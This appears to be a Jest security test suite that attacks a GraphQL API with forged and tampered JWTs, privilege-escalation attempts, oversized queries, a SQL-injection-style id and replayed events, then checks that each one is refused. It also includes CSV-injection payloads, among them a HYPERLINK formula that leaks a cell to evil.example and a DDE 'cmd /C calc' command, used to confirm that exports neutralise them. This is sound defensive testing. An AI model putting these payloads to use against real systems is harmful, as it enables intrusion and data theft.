/**
 * The hostile-input battery: the real app on a real SQLite file, attacked over HTTP and graphql-ws.
 * Every case asserts the answer's code AND that the store's last position (`/health` head) did not
 * move. Codes are GraphQL `extensions.code`s, or for a WebSocket that is refused outright its close
 * code (`CLOSE_4403`). The CSV cases assert the neutralised cell instead of a code: formula text is
 * accepted into the record as typed and made harmless where it leaves for a spreadsheet.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { SignJWT, UnsecuredJWT } from 'jose';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import WebSocket from 'ws';
import { formatError } from '../apps/api/src/common/errors.js';
import { EVENT_STORE } from '../apps/api/src/common/tokens.js';
import { runCli } from '../apps/cli/src/main.js';
import { parseCsv } from '../apps/cli/src/csv.js';
import { EventStore } from '#event-store/eventStore';
import { GqlResponse, TestApp, startApp, tempDir } from './support/app.js';
import { ASSIGN_LINK, LOG_CONTACT, REGISTER_MEMBER, REGISTER_ORG, buildSmallNetwork, member, must } from './support/smallNetwork.js';

const SECRET = 'hostile-battery-secret-0123456789-abcdefghijklmnopqrstuvwxyz';
const KEY = new TextEncoder().encode(SECRET);

interface Outcome {
  code: string | undefined;
  status?: number;
  body?: any;
}

type Case = [name: string, attempt: () => Promise<Outcome>, code: string];

const codeOf = (res: GqlResponse<unknown>): Outcome => ({ code: res.errors?.[0]?.extensions?.code, status: res.status, body: res });

const contactInput = (contactId: string, extra: Record<string, unknown> = {}) => ({
  input: { contactId, occurredAt: '2020-03-01', participantIds: ['m-pg', 'm-cpc1'], linkIds: ['l-pg-1'], channel: 'VISIT', topic: '走访', summary: '谈心谈话', liaisonGroupId: 'lg-hexi', ...extra },
});
const REGISTER_LOCALITY = `mutation { registerLocality(input: { localityId: "loc-evil", name: "x", kind: TOWN }) { position } }`;
const ASSIGN_EVIL_LINK = {
  input: { linkId: 'l-evil', scheme: 'PARTY_GROUP_TO_PARTY_MEMBER', sourceId: 'm-pg', targetId: 'm-cpc2', requirement: { minContacts: 9, per: 'QUARTER' }, activeFrom: '2020-01-01' },
};
const ISSUE_ADMIN = `mutation { issueToken(input: { subject: "mallory", role: ADMIN }) { token } }`;
const CORRECT = `mutation($input: CorrectContactInput!) { correctContact(input: $input) { position version } }`;
const RETRACT = `mutation($input: RetractContactInput!) { retractContact(input: $input) { position version } }`;

describe('hostile input is refused with a code and writes nothing', () => {
  let app: TestApp;
  let store: EventStore;
  let t: Record<'admin' | 'leader' | 'auditor' | 'recorder' | 'recorderEast' | 'recorderMember' | 'revoked', string>;
  let ids: Record<'recorder' | 'revoked' | 'revokedTwice', string>;
  let versions: { hexiContact: number };
  let exported: Map<string, Record<string, string>>;
  const csvDir = tempDir('hostile-csv-');

  const post = async (body: string, headers: Record<string, string> = {}): Promise<Outcome> => {
    const res = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${t.leader}`, ...headers }, body });
    const json = (await res.json()) as GqlResponse<unknown>;
    return { code: json.errors?.[0]?.extensions?.code, status: res.status, body: json };
  };
  const as = (token: string | null) => async (query: string, variables?: Record<string, unknown>) => codeOf(await app.gql(query, variables, { token }));
  const sign = (claims: Record<string, unknown>, options: { exp?: number; aud?: string; key?: Uint8Array } = {}) =>
    new SignJWT(claims)
      .setProtectedHeader({ alg: 'HS256' })
      .setIssuer('liaison-network')
      .setAudience(options.aud ?? 'liaison-api')
      .setExpirationTime(options.exp ?? Math.floor(Date.now() / 1000) + 3600)
      .sign(options.key ?? KEY);

  /** One graphql-ws session: connection_init with `params`, then optionally one subscribe; the first answer decides. */
  const ws = (params: Record<string, unknown> | undefined, subscribe?: { query: string; variables?: Record<string, unknown> }, raw?: string) =>
    new Promise<Outcome>((resolve) => {
      const socket = new WebSocket(`${app.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
      const done = (outcome: Outcome) => {
        clearTimeout(timer);
        socket.removeAllListeners();
        socket.on('error', () => undefined);
        socket.terminate();
        resolve(outcome);
      };
      const timer = setTimeout(() => done({ code: 'NO_ANSWER' }), 3000);
      socket.on('open', () => socket.send(raw ?? JSON.stringify({ type: 'connection_init', payload: params })));
      socket.on('message', (data) => {
        const message = JSON.parse(String(data));
        if (message.type === 'connection_ack') {
          if (!subscribe) return done({ code: 'ACK' });
          socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: subscribe }));
        } else if (message.type === 'error') done({ code: message.payload?.[0]?.extensions?.code, body: message });
        else if (message.type === 'next') done({ code: message.payload?.errors?.[0]?.extensions?.code ?? 'NEXT', body: message });
      });
      socket.on('close', (code) => done({ code: `CLOSE_${code}` }));
      socket.on('error', () => undefined);
    });

  beforeAll(async () => {
    app = await startApp({ config: { jwtSecret: SECRET } });
    store = app.app.get<EventStore>(EVENT_STORE);
    await buildSmallNetwork(app);
    // A second liaison group, with its members, a link and a contact of its own.
    await must(app, `mutation { registerLocality(input: { localityId: "loc-east", name: "东城区", kind: URBAN_AREA }) { position } }`);
    await must(app, REGISTER_ORG, { input: { organizationId: 'lg-east', kind: 'LIAISON_GROUP', name: '东城区联络组', localityId: 'loc-east', leaderId: 'p-sec' } });
    await must(app, REGISTER_MEMBER, { input: member('m-east1', 'CPC', { liaisonGroupId: 'lg-east' }) });
    await must(app, REGISTER_MEMBER, { input: member('m-east2', 'CDL', { liaisonGroupId: 'lg-east' }) });
    await must(app, ASSIGN_LINK, {
      input: { linkId: 'l-east', scheme: 'PARTY_MEMBER_TO_NON_PARTY', sourceId: 'm-east1', targetId: 'm-east2', requirement: { minContacts: 1, per: 'QUARTER' }, activeFrom: '2020-01-01' },
    });
    const recorderEast = await app.issueToken({ role: 'RECORDER', subject: 'east-clerk', liaisonGroupIds: ['lg-east'] });
    const recorderMember = await app.issueToken({ role: 'RECORDER', subject: 'np-secretary', memberId: 'm-np' });
    const revoked = await app.issueToken({ role: 'ADMIN', subject: 'former-admin' });
    const revokedTwice = await app.issueToken({ role: 'LEADER', subject: 'former-leader' });
    const me = await app.gql<any>(`{ me { tokenId } }`, {}, { token: app.tokens.RECORDER });
    for (const tokenId of [revoked.tokenId, revokedTwice.tokenId]) {
      await must(app, `mutation($id: ID!) { revokeToken(input: { tokenId: $id, reason: "left the office" }) { position } }`, { id: tokenId });
    }
    t = { admin: app.tokens.ADMIN, leader: app.tokens.LEADER, auditor: app.tokens.AUDITOR, recorder: app.tokens.RECORDER!, recorderEast: recorderEast.token, recorderMember: recorderMember.token, revoked: revoked.token };
    ids = { recorder: me.data.me.tokenId, revoked: revoked.tokenId, revokedTwice: revokedTwice.tokenId };

    const east = await app.gql<any>(LOG_CONTACT, contactInput('c-east', { participantIds: ['m-east1', 'm-east2'], linkIds: ['l-east'], liaisonGroupId: 'lg-east' }), { token: t.recorderEast });
    expect(east.errors).toBeUndefined();
    const hexi = await must<any>(app, LOG_CONTACT, contactInput('c-hexi'));
    await must(app, CORRECT, { input: { contactId: 'c-hexi', topic: '座谈', reason: '改主题', expectedVersion: hexi.logContact.version } });
    versions = { hexiContact: hexi.logContact.version };
    // Formula text, as typed by a clerk through the API and through a CSV import: recorded as is.
    await must(app, LOG_CONTACT, contactInput('c-formula-api', { topic: '@SUM(1+1)', summary: '-2+3', issuesRaised: ['=1+1'] }));
    mkdirSync(csvDir, { recursive: true });
    writeFileSync(
      join(csvDir, 'contacts.csv'),
      'id,occurred_at,channel,participant_ids,link_ids,topic,summary,issues_raised,liaison_group_id\n' +
        'c-formula-csv,2020-03-02,VISIT,m-pg;m-cpc1,l-pg-1,"=HYPERLINK(""http://evil.example/?""&A1,""点此"")","+cmd|\' /C calc\'!A0",@SUM(1);正常的意见,lg-hexi\n' +
        'c-formula-wide,2020-03-03,VISIT,m-pg;m-cpc1,,＝1+1,普通摘要,,lg-hexi\n',
    );
    const lines: string[] = [];
    const io = { out: (l: string) => lines.push(l), err: (l: string) => lines.push(l), env: { LIAISON_JWT_SECRET: SECRET } };
    expect(await runCli(['import', '--dir', csvDir, '--db', app.dataFile, '--actor', 'hostile-csv'], io)).toBe(0);
  }, 60_000);
  afterAll(async () => app.close());

  /** The heart of the battery: the code, and a log that did not move. */
  async function refused(attempt: () => Promise<Outcome>, code: string): Promise<Outcome> {
    const before = (await app.health()).head;
    expect(typeof before).toBe('number');
    const outcome = await attempt();
    expect(outcome.code).toBe(code);
    expect((await app.health()).head).toBe(before);
    return outcome;
  }
  const run = (cases: Case[]) => it.each(cases)('%s', async (_name, attempt, code) => void (await refused(attempt, code)));

  describe('malformed JSON and GraphQL', () => {
    run([
      ['a body that is not JSON', () => post('{"query": '), 'BAD_REQUEST'],
      ['a JSON body cut short inside a string', () => post('{"query": "{ me { role }'), 'BAD_REQUEST'],
      ['a batch (an array of operations)', () => post('[{"query":"{ me { role } }"},{"query":"{ me { role } }"}]'), 'BAD_REQUEST'],
      ['a query that is a number', () => post('{"query": 5}'), 'BAD_REQUEST'],
      ['variables that are a string', () => post('{"query": "{ me { role } }", "variables": "x"}'), 'BAD_REQUEST'],
      ['an unsupported charset', () => post('{"query": "{ me { role } }"}', { 'content-type': 'application/json; charset=latin1' }), 'BAD_REQUEST'],
      ['a text/plain body (a cross-site request without a preflight: CSRF)', () => post(JSON.stringify({ query: REGISTER_LOCALITY }), { 'content-type': 'text/plain', authorization: `Bearer ${t.admin}` }), 'BAD_REQUEST'],
      ['a GraphQL syntax error', () => as(t.leader)('{ me { role }'), 'GRAPHQL_PARSE_FAILED'],
      ['a mutation with a syntax error inside its input', () => as(t.recorder)('mutation { logContact(input: { contactId: "c-x" participantIds: [ }) { position } }'), 'GRAPHQL_PARSE_FAILED'],
      ['an unknown field', () => as(t.leader)('{ secrets { everything } }'), 'GRAPHQL_VALIDATION_FAILED'],
      ['a fragment that spreads itself', () => as(t.leader)('{ me { ...a } } fragment a on Caller { role ...a }'), 'GRAPHQL_VALIDATION_FAILED'],
      ['a mutation sent with GET', async () => {
        const res = await fetch(`${app.url}/graphql?query=${encodeURIComponent(REGISTER_LOCALITY)}`, { headers: { authorization: `Bearer ${t.admin}`, 'apollo-require-preflight': '1' } });
        return { code: ((await res.json()) as GqlResponse<unknown>).errors?.[0]?.extensions?.code, status: res.status };
      }, 'BAD_REQUEST'],
    ]);
  });

  describe('wrong types and unknown enums', () => {
    run([
      ['an unknown enum value inline', () => as(t.recorder)('mutation { logContact(input: { contactId: "c-x", occurredAt: "2020-01-01", participantIds: ["m-pg", "m-cpc1"], channel: SMOKE_SIGNAL, topic: "x" }) { position } }'), 'GRAPHQL_VALIDATION_FAILED'],
      ['an unknown enum value in variables', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { channel: 'SMOKE_SIGNAL' })), 'BAD_USER_INPUT'],
      ['an unknown role for a new token', () => as(t.admin)(`mutation($input: IssueTokenInput!) { issueToken(input: $input) { token } }`, { input: { subject: 'x', role: 'ROOT' } }), 'BAD_USER_INPUT'],
      ['a number where a date string goes', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { occurredAt: 20200301 })), 'BAD_USER_INPUT'],
      ['an object where a list of ids goes', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { participantIds: { $gt: '' } })), 'BAD_USER_INPUT'],
      ['text where an expected version goes', () => as(t.recorder)(CORRECT, { input: { contactId: 'c-hexi', topic: 'x', reason: 'r', expectedVersion: 'latest' } }), 'BAD_USER_INPUT'],
      ['a fraction where a whole number goes', () => as(t.admin)(ASSIGN_LINK, { input: { ...ASSIGN_EVIL_LINK.input, requirement: { minContacts: 1.5, per: 'QUARTER' } } }), 'BAD_USER_INPUT'],
      ['a required input field left out', () => as(t.recorder)(LOG_CONTACT, { input: { contactId: 'c-x', occurredAt: '2020-03-01', participantIds: ['m-pg', 'm-cpc1'], channel: 'VISIT' } }), 'BAD_USER_INPUT'],
      ['an input field the schema does not have', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { recordedBy: 'someone-else' })), 'BAD_USER_INPUT'],
      ['text where a position goes', () => as(t.leader)('query($p: Float) { readModel { position } coverage(period: "2020", atLeastPosition: $p) { due } }', { p: 'head' }), 'BAD_USER_INPUT'],
      ['a negative page size', () => as(t.leader)('{ members(first: -1) { totalCount } }'), 'VALIDATION'],
      ['an id with quotes and spaces', () => as(t.recorder)(LOG_CONTACT, contactInput(`c'; DROP TABLE events; --`)), 'VALIDATION'],
      ['a date that does not exist', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { occurredAt: '2020-02-30' })), 'VALIDATION'],
    ]);
  });

  describe('over-long strings and huge lists', () => {
    run([
      ['a summary over 4,000 characters', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { summary: '长'.repeat(4001) })), 'VALIDATION'],
      ['an issue over 1,000 characters', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { issuesRaised: ['长'.repeat(1001)] })), 'VALIDATION'],
      ['51 issues raised', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { issuesRaised: Array.from({ length: 51 }, (_, i) => `问题${i}`) })), 'VALIDATION'],
      ['201 participants', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { participantIds: Array.from({ length: 201 }, (_, i) => `m-${i}`) })), 'VALIDATION'],
      ['an id of 65 characters', () => as(t.recorder)(LOG_CONTACT, contactInput('c'.repeat(65))), 'VALIDATION'],
      // Issue 15, finding 8: characters nobody typed would land in a log that cannot be edited.
      ['a NUL in a summary', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { summary: '谈了\u0000什么' })), 'VALIDATION'],
      ['a lone surrogate in a topic', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { topic: '走访\uD83C' })), 'VALIDATION'],
      ['a token subject of 101 characters', () => as(t.admin)(`mutation { issueToken(input: { subject: "${'x'.repeat(101)}", role: LEADER }) { token } }`), 'VALIDATION'],
      ['a token subject with a line break (log forging)', () => as(t.admin)(`mutation { issueToken(input: { subject: "ok\\nlevel=fatal forged", role: LEADER }) { token } }`), 'VALIDATION'],
      ['a body over the size limit', () => post(JSON.stringify({ query: '{ me { role } }', variables: { pad: 'x'.repeat(300_000) } })), 'PAYLOAD_TOO_LARGE'],
      ['a list of 100,000 ids', () => post(JSON.stringify({ query: LOG_CONTACT, ...contactInput('c-x', { participantIds: Array.from({ length: 100_000 }, (_, i) => `m-${i}`) }) }), { authorization: `Bearer ${t.recorder}` }), 'PAYLOAD_TOO_LARGE'],
    ]);
  });

  describe('deep, aliased and costly queries', () => {
    const deep = '{ member(id: "m-pg") { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { id } } } } } } } } } } } } } }';
    const aliases = (n: number, field: string) => Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ');
    const costly = `{ ${aliases(10, 'members(first: 500) { edges { node { id name sector { id name kind } specialCommittee { id name kind } liaisonGroup { id name locality { id name kind } } } } }')} }`;
    run([
      ['a query 14 levels deep', () => as(t.leader)(deep), 'QUERY_TOO_COMPLEX'],
      ['16 aliases of one field', () => as(t.leader)(`{ ${aliases(16, 'me { role }')} }`), 'QUERY_TOO_COMPLEX'],
      ['16 aliased mutations in one request', () => as(t.recorder)(`mutation { ${Array.from({ length: 16 }, (_, i) => `m${i}: logContact(input: { contactId: "c-alias-${i}", occurredAt: "2020-03-01", participantIds: ["m-pg", "m-cpc1"], channel: VISIT, topic: "x", liaisonGroupId: "lg-hexi" }) { position }`).join(' ')} }`), 'QUERY_TOO_COMPLEX'],
      ['ten 500-member pages with nested lookups (cost)', () => as(t.leader)(costly), 'QUERY_TOO_COMPLEX'],
      ['more than 1,500 tokens', () => as(t.leader)(`{ ${'me { role } '.repeat(400)} }`), 'QUERY_TOO_COMPLEX'],
      ['11 directives', () => as(t.leader)(`{ me { ${Array.from({ length: 11 }, (_, i) => `r${i}: role @include(if: true)`).slice(0, 11).join(' ')} } }`), 'QUERY_TOO_COMPLEX'],
      ['a deep query without a token is refused before its depth is even looked at', () => as(null)(deep), 'UNAUTHENTICATED'],
    ]);
  });

  describe('missing, forged, expired and revoked tokens (each trying to write)', () => {
    const write = (headers: Record<string, string>) => post(JSON.stringify({ query: REGISTER_LOCALITY }), headers);
    const recorderClaims = () => ({ sub: 'test-recorder-hexi', role: 'RECORDER', scope: { liaisonGroupIds: ['lg-hexi'], memberId: null }, jti: ids.recorder });
    run([
      ['no Authorization header', () => as(null)(REGISTER_LOCALITY), 'UNAUTHENTICATED'],
      ['no token, asking only for __typename', () => as(null)('{ __typename }'), 'UNAUTHENTICATED'],
      ['no token, asking for the schema', () => as(null)('{ __schema { types { name } } }'), 'UNAUTHENTICATED'],
      ['a Basic credential', () => write({ authorization: 'Basic YWRtaW46YWRtaW4=' }), 'UNAUTHENTICATED'],
      ['"Bearer" and nothing else', () => write({ authorization: 'Bearer ' }), 'UNAUTHENTICATED'],
      ['a random string', () => write({ authorization: 'Bearer not-a-jwt-at-all' }), 'UNAUTHENTICATED'],
      ['a token signed with another secret', async () => write({ authorization: `Bearer ${await sign({ sub: 'mallory', role: 'ADMIN', scope: {}, jti: ids.revoked }, { key: new TextEncoder().encode('x'.repeat(48)) })}` }), 'UNAUTHENTICATED'],
      ['an unsigned token (alg: none)', async () => write({ authorization: `Bearer ${new UnsecuredJWT({ role: 'ADMIN', scope: {} }).setSubject('mallory').setJti(ids.recorder).setIssuer('liaison-network').setAudience('liaison-api').setExpirationTime('1h').encode()}` }), 'UNAUTHENTICATED'],
      ['a recorder token whose payload was edited to say ADMIN', () => {
        const [header, payload, signature] = t.recorder.split('.');
        const claims = JSON.parse(Buffer.from(payload!, 'base64url').toString());
        return write({ authorization: `Bearer ${header}.${Buffer.from(JSON.stringify({ ...claims, role: 'ADMIN' })).toString('base64url')}.${signature}` });
      }, 'UNAUTHENTICATED'],
      ['a correctly signed token that was never issued', async () => write({ authorization: `Bearer ${await sign({ sub: 'ghost', role: 'ADMIN', scope: { liaisonGroupIds: [], memberId: null }, jti: 'never-issued' })}` }), 'UNAUTHENTICATED'],
      ['a correctly signed token whose role disagrees with its record', async () => write({ authorization: `Bearer ${await sign({ ...recorderClaims(), role: 'ADMIN' })}` }), 'UNAUTHENTICATED'],
      ['a token for another audience', async () => write({ authorization: `Bearer ${await sign(recorderClaims(), { aud: 'another-api' })}` }), 'UNAUTHENTICATED'],
      ['an expired token', async () => as(await sign(recorderClaims(), { exp: Math.floor(Date.now() / 1000) - 60 }))(LOG_CONTACT, contactInput('c-expired')), 'UNAUTHENTICATED'],
      ['a revoked token', () => write({ authorization: `Bearer ${t.revoked}` }), 'UNAUTHENTICATED'],
      ['a revoked token trying to issue itself a new one', () => as(t.revoked)(ISSUE_ADMIN), 'UNAUTHENTICATED'],
    ]);
  });

  describe('each role trying each other role\'s mutations', () => {
    const logHexi = (token: () => string) => () => as(token())(LOG_CONTACT, contactInput('c-role-probe'));
    const roster = (token: () => string) => () => as(token())(REGISTER_LOCALITY);
    const links = (token: () => string) => () => as(token())(ASSIGN_LINK, ASSIGN_EVIL_LINK);
    const issue = (token: () => string) => () => as(token())(ISSUE_ADMIN);
    const revoke = (token: () => string) => () => as(token())(`mutation($id: ID!) { revokeToken(input: { tokenId: $id, reason: "coup" }) { position } }`, { id: ids.recorder });
    const correct = (token: () => string) => () => as(token())(CORRECT, { input: { contactId: 'c-hexi', topic: '改', reason: 'r' } });
    const retract = (token: () => string) => () => as(token())(RETRACT, { input: { contactId: 'c-hexi', reason: 'r' } });
    const admin = () => t.admin;
    const leader = () => t.leader;
    const auditor = () => t.auditor;
    const recorder = () => t.recorder;
    run([
      ['RECORDER registers a locality (ADMIN\'s roster)', roster(recorder), 'FORBIDDEN'],
      ['RECORDER assigns a link (ADMIN\'s links)', links(recorder), 'FORBIDDEN'],
      ['RECORDER issues itself an ADMIN token', issue(recorder), 'FORBIDDEN'],
      ['RECORDER revokes a token', revoke(recorder), 'FORBIDDEN'],
      ['LEADER registers a locality', roster(leader), 'FORBIDDEN'],
      ['LEADER assigns a link', links(leader), 'FORBIDDEN'],
      ['LEADER issues a token', issue(leader), 'FORBIDDEN'],
      ['LEADER logs a contact (RECORDER\'s work)', logHexi(leader), 'FORBIDDEN'],
      ['LEADER corrects a contact', correct(leader), 'FORBIDDEN'],
      ['AUDITOR registers a locality', roster(auditor), 'FORBIDDEN'],
      ['AUDITOR assigns a link', links(auditor), 'FORBIDDEN'],
      ['AUDITOR issues a token', issue(auditor), 'FORBIDDEN'],
      ['AUDITOR revokes a token', revoke(auditor), 'FORBIDDEN'],
      ['AUDITOR logs a contact', logHexi(auditor), 'FORBIDDEN'],
      ['AUDITOR retracts a contact', retract(auditor), 'FORBIDDEN'],
      ['ADMIN logs a contact', logHexi(admin), 'FORBIDDEN'],
      ['ADMIN corrects a contact', correct(admin), 'FORBIDDEN'],
      ['ADMIN retracts a contact', retract(admin), 'FORBIDDEN'],
      ['ADMIN reads a dashboard figure', () => as(t.admin)('{ coverage(period: "2020") { due } }'), 'FORBIDDEN'],
      ['ADMIN reads a contact', () => as(t.admin)('{ contact(id: "c-hexi") { id } }'), 'FORBIDDEN'],
      ['ADMIN nests from a link it may read into its usage (a figure)', () => as(t.admin)('{ link(id: "l-pg-1") { id usage { total } } }'), 'FORBIDDEN'],
      ['RECORDER reads a dashboard figure', () => as(t.recorder)('{ reach(period: "2020", scheme: SECTOR) { reached } }'), 'FORBIDDEN'],
      ['LEADER lists the tokens', () => as(t.leader)('{ tokens { subject } }'), 'FORBIDDEN'],
    ]);
  });

  describe('a recorder writing (or reading) for another group', () => {
    const recorder = () => as(t.recorder);
    run([
      ['logging in the name of another group', () => recorder()(LOG_CONTACT, contactInput('c-x', { liaisonGroupId: 'lg-east' })), 'FORBIDDEN'],
      ['logging another group\'s members on its link, with no group named', () => recorder()(LOG_CONTACT, contactInput('c-x', { participantIds: ['m-east1', 'm-east2'], linkIds: ['l-east'], liaisonGroupId: null })), 'FORBIDDEN'],
      ['correcting another group\'s contact', () => recorder()(CORRECT, { input: { contactId: 'c-east', topic: '篡改', reason: 'r' } }), 'FORBIDDEN'],
      ['retracting another group\'s contact', () => recorder()(RETRACT, { input: { contactId: 'c-east', reason: 'r' } }), 'FORBIDDEN'],
      ['moving its own contact into another group by correction', () => recorder()(CORRECT, { input: { contactId: 'c-hexi', participantIds: ['m-east1', 'm-east2'], linkIds: ['l-east'], liaisonGroupId: 'lg-east', reason: 'r' } }), 'FORBIDDEN'],
      ['reading another group\'s contact', () => recorder()('{ contact(id: "c-east") { id summary } }'), 'FORBIDDEN'],
      ['reading another group\'s timeline', () => recorder()('{ timeline(partyId: "lg-east") { totalCount } }'), 'FORBIDDEN'],
      ['reading another group\'s link', () => recorder()('{ link(id: "l-east") { id } }'), 'FORBIDDEN'],
      ['reading the usage of another group\'s link', () => recorder()('{ linkUsage(linkId: "l-east") { total } }'), 'FORBIDDEN'],
      ['a member-scoped recorder logging a contact without its member', () => as(t.recorderMember)(LOG_CONTACT, contactInput('c-x', { liaisonGroupId: null })), 'FORBIDDEN'],
      ['a member-scoped recorder naming a group', () => as(t.recorderMember)(LOG_CONTACT, contactInput('c-x', { participantIds: ['m-cpc1', 'm-np'], linkIds: ['l-pm-1'] })), 'FORBIDDEN'],
    ]);
  });

  describe('replayed event ids', () => {
    it('the same contact logged twice records no new event', async () => {
      const first = await must<any>(app, LOG_CONTACT, contactInput('c-hexi-2'));
      const again = await refused(async () => {
        const body = await must<any>(app, LOG_CONTACT, contactInput('c-hexi-2'));
        return { code: `WRITTEN_${body.logContact.written}`, body };
      }, 'WRITTEN_0');
      expect(again.body.logContact).toEqual({ ...first.logContact, written: 0 });
    });
    run([
      ['the same contact id with other details', () => as(t.recorder)(LOG_CONTACT, contactInput('c-hexi', { topic: '另一个' })), 'CONFLICT'],
      ['a raw append reusing a recorded event id in another stream', async () => {
        const [recorded] = await store.readAll({ after: 0, maxCount: 1 });
        try {
          await store.appendToStream('intruder-1', [{ id: recorded!.id, type: 'ContactLogged', data: {} }], { expectedVersion: 'ANY' });
          return { code: 'WRITTEN' };
        } catch (error) {
          // …and the API's one error mapping answers it as CONFLICT too.
          expect(formatError({ message: 'x' }, error, () => undefined).extensions?.code).toBe('CONFLICT');
          return { code: (error as { code?: string }).code };
        }
      }, 'CONFLICT'],
      ['a raw append of a recorded id followed by a new event in its own stream', async () => {
        const [recorded] = await store.readAll({ after: 0, maxCount: 1 });
        const events = [
          { id: recorded!.id, type: recorded!.type, data: recorded!.data },
          { id: '01900000-0000-7000-8000-000000000001', type: 'ContactLogged', data: {} },
        ];
        try {
          await store.appendToStream(recorded!.streamId, events, { expectedVersion: 'ANY' });
          return { code: 'WRITTEN' };
        } catch (error) {
          return { code: (error as { code?: string }).code };
        }
      }, 'CONFLICT'],
      ['an exact raw retry of a recorded append is recognised and writes nothing', async () => {
        const [recorded] = await store.readAll({ after: 0, maxCount: 1 });
        const result = await store.appendToStream(recorded!.streamId, [{ id: recorded!.id, type: recorded!.type, data: recorded!.data }], { expectedVersion: 'ANY' });
        return { code: result.position === recorded!.position ? 'SAME_POSITION' : `MOVED_TO_${result.position}` };
      }, 'SAME_POSITION'],
    ]);
  });

  describe('stale expected versions', () => {
    run([
      ['a correction at a version already corrected past', () => as(t.recorder)(CORRECT, { input: { contactId: 'c-hexi', topic: '再改', reason: 'r', expectedVersion: versions.hexiContact } }), 'CONFLICT'],
      ['a retraction at a version from the future', () => as(t.recorder)(RETRACT, { input: { contactId: 'c-hexi', reason: 'r', expectedVersion: 7 } }), 'CONFLICT'],
      ['a correction claiming the contact does not exist yet (-1)', () => as(t.recorder)(CORRECT, { input: { contactId: 'c-hexi', topic: '再改', reason: 'r', expectedVersion: -1 } }), 'CONFLICT'],
      ['a member profile change at a stale version', () => as(t.admin)(`mutation { changeMemberProfile(input: { memberId: "m-np", name: "改名", reason: "r", expectedVersion: 5 }) { version } }`), 'CONFLICT'],
      ['ending a link at a stale version', () => as(t.admin)(`mutation { endLink(input: { linkId: "l-pg-2", activeTo: "2020-12-31", reason: "r", expectedVersion: 3 }) { version } }`), 'CONFLICT'],
      ['revoking a token already revoked', () => as(t.admin)(`mutation($id: ID!) { revokeToken(input: { tokenId: $id, reason: "again" }) { position } }`, { id: ids.revokedTwice }), 'CONFLICT'],
    ]);
  });

  describe('CSV injection: formula text is recorded as typed and neutralised in the CSV export', () => {
    const cell = async (contactId: string, column: string): Promise<Outcome> => {
      if (!exported) {
        const lines: string[] = [];
        const status = await runCli(['export-csv', 'contacts', '--db', app.dataFile], { out: (l) => lines.push(l), err: () => undefined, env: {} });
        expect(status).toBe(0);
        const { header, records } = parseCsv(lines.join('\n'));
        exported = new Map(records.map((r) => [r.values[0]!, Object.fromEntries(header.map((h, i) => [h, r.values[i]!]))]));
      }
      return { code: exported.get(contactId)?.[column] };
    };
    run([
      ['= (a HYPERLINK that leaks a cell) in an imported topic', () => cell('c-formula-csv', 'topic'), `'=HYPERLINK("http://evil.example/?"&A1,"点此")`],
      ['+ (a DDE command) in an imported summary', () => cell('c-formula-csv', 'summary'), `'+cmd|' /C calc'!A0`],
      ['@ in an imported issue', () => cell('c-formula-csv', 'issues_raised'), `'@SUM(1);正常的意见`],
      ['a full-width ＝ in an imported topic', () => cell('c-formula-wide', 'topic'), `'＝1+1`],
      ['@ in a topic logged through the API', () => cell('c-formula-api', 'topic'), `'@SUM(1+1)`],
      ['- in a summary logged through the API', () => cell('c-formula-api', 'summary'), `'-2+3`],
      ['= in an issue logged through the API', () => cell('c-formula-api', 'issues_raised'), `'=1+1`],
      ['ordinary text is exported unchanged', () => cell('c-formula-wide', 'summary'), '普通摘要'],
      ['the record keeps the text exactly as typed', async () => {
        // The CLI wrote it from another process: read at the store's head, so the server has folded it.
        const { head } = await app.health();
        return { code: (await must<any>(app, `query($at: Float) { contact(id: "c-formula-csv", atLeastPosition: $at) { summary } }`, { at: head })).contact.summary };
      }, `+cmd|' /C calc'!A0`],
    ]);
  });

  describe('subscriptions without (a valid) token', () => {
    const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
    const SUBSCRIBE = (group: string | null) => ({ query: 'subscription($g: ID) { contactLogged(liaisonGroupId: $g) { id summary } }', variables: { g: group } });
    const CHANGES = (group: string | null) => ({ query: 'subscription($g: ID) { contactChanged(liaisonGroupId: $g) { kind contact { id summary } } }', variables: { g: group } });
    run([
      ['no connectionParams', () => ws(undefined), 'CLOSE_4403'],
      ['connectionParams without a token', () => ws({ actor: 'admin' }), 'CLOSE_4403'],
      ['a forged token', async () => ws(bearer(await sign({ sub: 'x', role: 'ADMIN', scope: {}, jti: ids.recorder }, { key: new TextEncoder().encode('y'.repeat(40)) }))), 'CLOSE_4403'],
      ['a revoked token', () => ws(bearer(t.revoked)), 'CLOSE_4403'],
      ['an expired token', async () => ws(bearer(await sign({ sub: 'test-recorder-hexi', role: 'RECORDER', scope: { liaisonGroupIds: ['lg-hexi'], memberId: null }, jti: ids.recorder }, { exp: Math.floor(Date.now() / 1000) - 1 }))), 'CLOSE_4403'],
      ['subscribing before connection_init', () => ws(undefined, undefined, JSON.stringify({ id: '1', type: 'subscribe', payload: SUBSCRIBE(null) })), 'CLOSE_4401'],
      ['a connection_init message over the size limit', () => ws(undefined, undefined, JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${'x'.repeat(300_000)}` } })), 'CLOSE_1009'],
      ['a recorder subscribing to another group', () => ws(bearer(t.recorder), SUBSCRIBE('lg-east')), 'FORBIDDEN'],
      ['a recorder subscribing to every group', () => ws(bearer(t.recorder), SUBSCRIBE(null)), 'FORBIDDEN'],
      ['an administrator subscribing to contacts', () => ws(bearer(t.admin), SUBSCRIBE(null)), 'FORBIDDEN'],
